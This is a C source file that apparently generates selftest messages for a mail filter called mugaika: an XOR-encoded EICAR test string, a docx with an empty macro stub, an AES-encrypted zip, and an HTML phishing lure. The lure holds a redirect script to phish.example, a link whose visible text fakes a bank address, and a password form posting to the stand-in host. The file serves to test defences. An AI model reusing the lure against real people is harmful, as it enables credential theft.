/*
 * selftest_msgs.c - the test messages of `mugaika selftest`, made at run
 * time (docs/selftest.md): nothing hostile is stored in the source or the
 * binary.  The EICAR string is kept XOR-ed and assembled when needed; the
 * macro document and the encrypted zip are built with libzip.
 */
#include "config.h"

#include <string.h>
#include <gio/gio.h>
#include <zip.h>

#include "selftest.h"

/* EICAR, each byte XOR 0x20, so that no scanner flags the mugaika binary. */
static const guint8 eicar_x[] = {
	0x78, 0x15, 0x6f, 0x01, 0x70, 0x05, 0x60, 0x61, 0x70, 0x7b, 0x14, 0x7c, 0x70, 0x7a, 0x78, 0x15, 0x14,
	0x08, 0x70, 0x7e, 0x09, 0x17, 0x63, 0x63, 0x09, 0x17, 0x5d, 0x04, 0x65, 0x69, 0x63, 0x61, 0x72, 0x0d,
	0x73, 0x74, 0x61, 0x6e, 0x64, 0x61, 0x72, 0x64, 0x0d, 0x61, 0x6e, 0x74, 0x69, 0x76, 0x69, 0x72, 0x75,
	0x73, 0x0d, 0x74, 0x65, 0x73, 0x74, 0x0d, 0x66, 0x69, 0x6c, 0x65, 0x01, 0x04, 0x68, 0x0b, 0x68, 0x0a,
};

GBytes *mg_st_eicar(void)
{
	gsize n = sizeof eicar_x;
	guint8 *b = g_malloc(n);
	for (gsize i = 0; i < n; i++)
		b[i] = (guint8)(eicar_x[i] ^ 0x20);
	return g_bytes_new_take(b, n);
}

/* ---- zip files built in memory with libzip ---- */

struct zentry {
	const char *name;
	const void *data;
	gsize len;
};

/* A zip of the entries; password: every entry AES-256 encrypted. */
static GBytes *zip_build(const struct zentry *e, gsize n, const char *password, GError **err)
{
	zip_error_t ze;
	zip_error_init(&ze);
	zip_source_t *src = zip_source_buffer_create(NULL, 0, 0, &ze);
	zip_t *z = src ? zip_open_from_source(src, ZIP_TRUNCATE, &ze) : NULL;
	GBytes *out = NULL;
	gboolean ok = z != NULL;
	if (z)
		zip_source_keep(src);
	for (gsize i = 0; ok && i < n; i++) {
		zip_source_t *s = zip_source_buffer(z, e[i].data, e[i].len, 0);
		zip_int64_t idx = s ? zip_file_add(z, e[i].name, s, ZIP_FL_ENC_UTF_8) : -1;
		if (idx < 0 && s)
			zip_source_free(s);
		ok = idx >= 0 &&
		     (!password || zip_file_set_encryption(z, (zip_uint64_t)idx, ZIP_EM_AES_256, password) == 0);
	}
	if (!ok || zip_close(z) != 0) {
		g_set_error(err, G_IO_ERROR, G_IO_ERROR_FAILED, "cannot build a zip: %s",
			    z ? zip_strerror(z) : zip_error_strerror(&ze));
		if (z)
			zip_discard(z);
		if (src)
			zip_source_free(src);
		zip_error_fini(&ze);
		return NULL;
	}
	zip_stat_t st;
	if (zip_source_stat(src, &st) == 0 && zip_source_open(src) == 0) {
		guint8 *buf = g_malloc(st.size);
		if (zip_source_read(src, buf, st.size) == (zip_int64_t)st.size)
			out = g_bytes_new_take(buf, st.size);
		else
			g_free(buf);
		zip_source_close(src);
	}
	zip_source_free(src);
	zip_error_fini(&ze);
	if (!out)
		g_set_error(err, G_IO_ERROR, G_IO_ERROR_FAILED, "cannot read back the zip built");
	return out;
}

#define CT_NS  "http://schemas.openxmlformats.org/package/2006/content-types"
#define REL_NS "http://schemas.openxmlformats.org/package/2006/relationships"
#define OD_REL "http://schemas.openxmlformats.org/officeDocument/2006/relationships"

GBytes *mg_st_macro_docx(GError **err)
{
	static const char types[] =
		"<?xml version=\"1.0\" encoding=\"UTF-8\"?><Types xmlns=\"" CT_NS "\">"
		"<Default Extension=\"rels\" ContentType=\"application/vnd.openxmlformats-package.relationships+xml\"/>"
		"<Default Extension=\"xml\" ContentType=\"application/xml\"/>"
		"<Default Extension=\"bin\" ContentType=\"application/vnd.ms-office.vbaProject\"/>"
		"<Override PartName=\"/word/document.xml\" "
		"ContentType=\"application/vnd.ms-word.document.macroEnabled.main+xml\"/></Types>";
	static const char rels[] = "<?xml version=\"1.0\" encoding=\"UTF-8\"?><Relationships xmlns=\"" REL_NS "\">"
				   "<Relationship Id=\"rId1\" Type=\"" OD_REL "/officeDocument\" "
				   "Target=\"word/document.xml\"/></Relationships>";
	static const char doc[] = "<?xml version=\"1.0\" encoding=\"UTF-8\"?><w:document "
				  "xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\"><w:body>"
				  "<w:p><w:r><w:t>mugaika selftest</w:t></w:r></w:p></w:body></w:document>";
	static const char docrels[] = "<?xml version=\"1.0\" encoding=\"UTF-8\"?><Relationships xmlns=\"" REL_NS "\">"
				      "<Relationship Id=\"rId1\" "
				      "Type=\"http://schemas.microsoft.com/office/2006/relationships/vbaProject\" "
				      "Target=\"vbaProject.bin\"/></Relationships>";
	/* the shape of a VBA project: the compound-file signature and inert text */
	static const char vba[] = "\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
				  "Attribute VB_Name = \"ThisDocument\"\r\nSub AutoOpen()\r\nEnd Sub\r\n";
	const struct zentry e[] = {
		{"[Content_Types].xml", types, sizeof types - 1},
		{"_rels/.rels", rels, sizeof rels - 1},
		{"word/document.xml", doc, sizeof doc - 1},
		{"word/_rels/document.xml.rels", docrels, sizeof docrels - 1},
		{"word/vbaProject.bin", vba, sizeof vba - 1},
	};
	return zip_build(e, G_N_ELEMENTS(e), NULL, err);
}

GBytes *mg_st_encrypted_zip(GError **err)
{
	static const char secret[] = "mugaika selftest: this member is encrypted\n";
	const struct zentry e[] = {{MG_ST_SECRET_NAME, secret, sizeof secret - 1}};
	if (!zip_encryption_method_supported(ZIP_EM_AES_256, 1)) {
		g_set_error(err, G_IO_ERROR, G_IO_ERROR_NOT_SUPPORTED, "this libzip cannot encrypt (AES-256)");
		return NULL;
	}
	return zip_build(e, G_N_ELEMENTS(e), "selftest", err);
}

/* ---- messages ---- */

static void base64_lines(GString *g, GBytes *b)
{
	gsize n = 0;
	const guint8 *d = g_bytes_get_data(b, &n);
	char *s = g_base64_encode(d, n);
	for (gsize i = 0, len = strlen(s); i < len; i += 76)
		g_string_append_printf(g, "%.76s\n", s + i);
	g_free(s);
}

static void headers(GString *g, const struct mg_st_msg *m, const char *subject)
{
	g_string_append_printf(
		g,
		"From: <%s>\nTo: <%s>\nSubject: mugaika selftest: %s\nMessage-ID: <%s.%s@selftest.invalid>\n"
		"Date: %s\nX-Mugaika-Selftest: %s\nMIME-Version: 1.0\n",
		m->from, m->to, subject, subject, m->nonce, m->date, m->nonce);
	for (guint i = 0; m->extra && m->extra[i]; i++)
		g_string_append_printf(g, "%s\n", m->extra[i]);
}

char *mg_st_with_attachment(const struct mg_st_msg *m, const char *subject, const char *type, const char *name,
			    GBytes *data)
{
	GString *g = g_string_new(NULL);
	headers(g, m, subject);
	g_string_append_printf(g,
			       "Content-Type: multipart/mixed; boundary=\"st-%s\"\n\n--st-%s\n"
			       "Content-Type: text/plain; charset=UTF-8\n\nmugaika selftest (%s)\n\n--st-%s\n"
			       "Content-Type: %s; name=\"%s\"\nContent-Disposition: attachment; filename=\"%s\"\n"
			       "Content-Transfer-Encoding: base64\n\n",
			       m->nonce, m->nonce, subject, m->nonce, type, name, name);
	base64_lines(g, data);
	g_string_append_printf(g, "--st-%s--\n", m->nonce);
	return g_string_free(g, FALSE);
}

char *mg_st_html_lure(const struct mg_st_msg *m)
{
	GString *g = g_string_new(NULL);
	headers(g, m, "html-lure");
	g_string_append(g,
			"Content-Type: text/html; charset=UTF-8\n\n"
			"<html><head><script>document.location='http://phish.example/steal'</script></head><body>"
			"<p>Your mailbox is full. <a href=\"http://phish.example/login\">https://www.bank.example.jp/"
			"</a></p><form action=\"http://phish.example/post\"><input name=\"password\"></form>"
			"<img src=\"http://phish.example/track.gif\"></body></html>\n");
	return g_string_free(g, FALSE);
}

char *mg_st_plain(const struct mg_st_msg *m, const char *subject)
{
	GString *g = g_string_new(NULL);
	headers(g, m, subject);
	g_string_append_printf(g, "Content-Type: text/plain; charset=UTF-8\n\nmugaika selftest (%s)\n", subject);
	return g_string_free(g, FALSE);
}
